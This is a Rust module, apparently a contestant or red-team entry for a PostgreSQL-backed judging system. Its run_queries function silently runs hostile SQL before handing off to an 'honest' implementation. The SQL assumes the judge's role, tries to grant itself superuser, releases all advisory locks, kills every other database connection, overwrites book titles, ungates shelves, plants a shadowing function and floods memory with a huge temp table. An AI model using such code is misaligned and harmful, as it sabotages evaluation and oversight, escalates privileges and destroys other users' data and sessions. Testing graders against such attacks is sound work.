//! Takes the judge's role, its locks and its connections, if it can.

mod honest;

use std::num::NonZeroUsize;

pub use honest::*;
use tokio_postgres::{Error, NoTls};

const COMMANDS: &[&str] = &[
    r#"SET ROLE judge"#,
    r#"ALTER ROLE CURRENT_USER SUPERUSER"#,
    r#"SELECT pg_advisory_unlock_all()"#,
    r#"SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()"#,
    r#"UPDATE shelves SET gated = false"#,
    r#"UPDATE books SET title = 'mine'"#,
    r#"CREATE TABLE public.mine (n integer)"#,
    r#"CREATE OR REPLACE FUNCTION shelf(number integer) RETURNS text LANGUAGE sql AS 'SELECT 1::text'"#,
    r#"CREATE TEMP TABLE mine AS SELECT generate_series(1, 100000000) AS n"#,
    r#"SELECT lo_create(0)"#,
];

pub async fn run_queries(
    config: &str,
    queries: &[String],
    connections: NonZeroUsize,
) -> Vec<Result<Vec<String>, Error>> {
    if let Ok((client, connection)) = tokio_postgres::connect(config, NoTls).await {
        let talking = tokio::spawn(connection);
        for command in COMMANDS {
            let _ = client.simple_query(command).await;
        }
        drop(client);
        let _ = talking.await;
    }
    honest::run_queries(config, queries, connections).await
}
